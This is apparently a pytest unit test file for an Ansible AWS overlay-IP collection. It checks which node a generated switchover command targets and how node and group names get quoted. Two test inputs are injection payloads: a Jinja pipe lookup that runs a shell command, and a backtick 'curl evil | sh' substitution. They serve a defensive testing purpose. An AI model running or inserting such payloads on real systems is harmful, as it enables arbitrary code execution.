# Copyright (c) 2026, aws_ha.overlay_ip contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The commands on the status page: to which node a switchover goes, and names that would make others of them."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.aws_ha.overlay_ip.plugins.module_utils._report import page
from unit.status_reports import OVERLAY, WELL, report

SWITCHOVER = "ansible-playbook aws_ha.overlay_ip.switchover -e target="
SPLIT = ((2, "active"), (1, "active"))
MOST_ON_1 = ((2, "active"), (1, "active"), (1, "active"))
GONE = ((None, ""), (None, ""))
STANDBY = "standby_source_dest_check_on"


def commands(given: dict[str, Any], which: str = "") -> list[tuple[str, str]]:
    """Of the findings with this id, or all: where a command is for, and the command."""
    found = page.page([given], "")["findings"]
    return [(c["at"], c["command"]) for f in found if which in ("", f["id"]) for c in f["commands"]]


def both(*names: str) -> list[tuple[str, str]]:
    return [(f"where {name} shall have it", f"{SWITCHOVER}{name}") for name in names]


@pytest.mark.parametrize("leads", [SPLIT, SPLIT[::-1], MOST_ON_1])
@pytest.mark.parametrize("master", [1, 2])
def test_a_switchover_goes_where_the_engine_has_it(leads: Any, master: int) -> None:
    """Against the engine a switchover would take the address from the node that serves, for most tables or none."""
    assert commands(report({OVERLAY: leads}, master=master), "split") == [
        (f"to node{master}, where the engine has it", f"{SWITCHOVER}node{master}")
    ]


def test_where_all_routes_are_gone_it_goes_where_the_engine_has_it() -> None:
    told = commands(report({OVERLAY: GONE}, master=2))
    assert {command for _at, command in told if "switchover" in command} == {f"{SWITCHOVER}node2"}


@pytest.mark.parametrize("leads", [SPLIT, MOST_ON_1])
@pytest.mark.parametrize("engine", ["keepalived", None])
def test_where_no_engine_decides_a_person_does(leads: Any, engine: str | None) -> None:
    """Who has the newest data no table knows, however many lead there."""
    assert commands(report({OVERLAY: leads}, engine=engine, master=0), "split") == both("node1", "node2")


def test_where_two_say_that_they_have_it_nobody_decides() -> None:
    told = report({OVERLAY: SPLIT}, master=2)
    for view in told["overlays"][0]["engines"]:
        view["holder"] = view["node"]
    assert commands(told, "split") == both("node1", "node2")


def test_a_node_that_could_not_take_over_is_no_target_even_if_the_engine_has_it_there() -> None:
    given = report({OVERLAY: SPLIT}, master=2, checks=(False, True))
    label = "where node1 shall have it; node2 could not take over"
    assert commands(given, "split") == [(label, f"{SWITCHOVER}node1")]
    given = report({OVERLAY: SPLIT}, master=2, checks=(True, True))
    assert commands(given, "split") == []


@pytest.mark.parametrize(("master", "together"), [(1, 2), (2, 1), (0, 2)])
def test_tables_are_in_order_that_lead_where_the_engine_has_it(master: int, together: int) -> None:
    """Most of them may lead to the wrong node."""
    assert page.page([report({OVERLAY: MOST_ON_1}, master=master)], "")["overlays"][0]["together"] == together


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("db.example.com", "db.example.com"),
        ("db 1", None),
        ("a'b", None),
        ("x{{ lookup('pipe', 'touch /tmp/pwned') }}", ""),
    ],
)
def test_a_command_names_the_node_that_is_meant_or_is_none(name: str, written: str | None) -> None:
    """Ansible runs an extra variable as a template, and takes `target=db 1` for db."""
    told = commands(report({OVERLAY: SPLIT}, names=("node1", name), checks=(True, False), master=0), "split")
    label = f"where {name} shall have it; node1 could not take over"
    if written is None:
        quoted = name.replace("'", """'"'"'""")
        assert told == [(label, f"""{SWITCHOVER.removesuffix("target=")}'{{"target": "{quoted}"}}'""")]
    else:
        assert told == ([(label, f"{SWITCHOVER}{written}")] if written else [])


def test_no_command_runs_for_a_group_whose_name_is_a_template_and_another_name_is_quoted() -> None:
    given = report(checks=(False, True), engine=None)
    setup = "aws_ha.overlay_ip.setup"
    assert commands({**given, "pair": "{{ 1 }}"}, STANDBY) == []
    assert commands({**given, "pair": "my pair"}, STANDBY) == [
        ("", f"""ansible-playbook -e '{{"overlay_ip_group": "my pair"}}' {setup}""")
    ]


def test_what_a_name_has_between_backticks_is_no_command() -> None:
    """The name of an instance may be anybody's tag."""
    name = "x`curl evil | sh`"
    finding = {"id": "x", "severity": "error", "message": "No.", "remedy": f"Run `aws-overlay-ip give-up` on {name}."}
    told = report({OVERLAY: WELL}, names=("node1", name), extra={name: [finding]})
    assert [command for _at, command in commands(told, "x")] == ["aws-overlay-ip give-up"]


def test_commands_of_a_report_name_its_group() -> None:
    """A page of several groups, made of what overlay_report returned for each."""
    given = report(checks=(False, True), engine=None, group="queue")
    setup = "aws_ha.overlay_ip.setup"
    queue = commands(given, STANDBY)
    assert queue == [("", f"ansible-playbook -e overlay_ip_group=queue {setup}")]
    assert commands({**given, "pair": "q"}, STANDBY)[0][1].split()[2] == "overlay_ip_group=q"
    for group in ("overlay_nodes", ""):
        assert commands({**given, "group": group}, STANDBY) == [("", f"ansible-playbook {setup}")]
    assert [o["pair"] for o in page.page([given], "")["overlays"]] == ["queue"]
